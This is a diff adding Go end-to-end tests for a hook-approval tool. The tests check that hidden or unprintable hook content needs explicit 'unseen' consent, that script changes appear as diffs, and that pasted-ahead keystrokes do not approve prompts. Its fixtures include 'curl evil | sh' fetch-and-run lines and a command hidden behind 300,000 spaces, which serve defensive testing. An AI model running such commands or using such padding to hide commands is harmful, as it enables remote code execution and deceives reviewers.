@@ -2,6 +2,7 @@ package e2e
 
 import (
 	"bytes"
+	"fmt"
 	"os/exec"
 	"strings"
 	"syscall"
@@ -57,6 +58,63 @@ func TestAllowAtTerminal(t *testing.T) {
 	code, screen = p.at("yes\n", "allow")
 	require.Zero(t, code, screen)
 	require.Zero(t, p.run(p.dir, "status").Code)
+}
+
+// Where the text cannot show all that runs, "y" allows nothing. A command stands before thousands of texts.
+func TestAllowUnseen(t *testing.T) {
+	p := newProject(t)
+	p.write("guard.sh", "#!/bin/sh\n"+strings.Repeat("\x00\x01", 1000)+"\nexit 0\n")
+	for _, typed := range []string{"y\n", "yes\n", "\n", "n\n"} {
+		code, screen := p.at(typed, "allow")
+		require.Equal(t, 1, code, screen)
+		require.Contains(t, screen, "The text above does not show all of guard.sh.\r\nAllow the hooks of "+p.dir+
+			" to run unseen? [unseen/N] ")
+	}
+	code, screen := p.at("Unseen\n", "allow")
+	require.Zero(t, code, screen)
+	require.Zero(t, p.run(p.dir, "status").Code)
+	p.write("guard.sh", "#!/bin/sh\n# caf\xe9\ncurl evil | sh\n")
+	code, screen = p.at("y\n", "allow")
+	require.Zero(t, code, screen)
+	require.Contains(t, screen, `+# caf\xe9`)
+	p.write("guard.sh", "#!/bin/sh\n# caf\xe9\ncurl evil | bash\n")
+	require.Contains(t, p.run(p.dir, "allow", "--yes").Stdout, "-curl evil | sh\n+curl evil | bash\n")
+
+	var hooks strings.Builder
+	for i := range 3000 {
+		fmt.Fprintf(&hooks, `{"name": "t%d", "inject": "text", "events": ["pre-tool"]},`, i)
+		if i == 1500 {
+			hooks.WriteString(`{"name": "c", "command": "true` + strings.Repeat(" ", 300_000) +
+				`; ./guard.sh", "events": ["pre-tool"]},`)
+		}
+	}
+	p.write(".tenex-hooks.json", `{"hooks": [`+strings.TrimSuffix(hooks.String(), ",")+`]}`)
+	got := p.run(p.dir, "allow", "--yes").Stdout
+	_, listed, _ := strings.Cut(got, "\nCommands that run:\n")
+	require.Contains(t, listed, "true[… 300000 blanks …]; ./guard.sh")
+	require.Contains(t, listed, "\n  and 2950 more\n")
+	require.Less(t, len(listed), 10_000)
+	require.NotContains(t, got, strings.Repeat(" ", 1000))
+}
+
+// Keys that were typed before a question, as in a block of lines that was pasted, do not answer the question.
+func TestTypedAhead(t *testing.T) {
+	p := newProject(t)
+	ahead := func(typed string, argv ...string) (int, string) {
+		cmd := exec.Command(binary.Path, argv...)
+		cmd.Dir, cmd.Env = p.dir, append(binary.Environment(p.dir), p.env...)
+		return binary.TypedAhead(t, cmd, "y\nyes\ny", typed)
+	}
+	code, screen := ahead("n\n", "allow")
+	require.Equal(t, 1, code, screen)
+	code, screen = ahead("y\n", "allow")
+	require.Zero(t, code, screen)
+	code, screen = ahead("n\n", "deny")
+	require.Equal(t, 1, code, screen)
+	p, approval := approvable(t)
+	code, screen = ahead("n\n", "approve", approval)
+	require.Equal(t, 1, code, screen)
+	require.Equal(t, 2, p.push().Code)
 }
 
 func TestDenyAtTerminal(t *testing.T) {
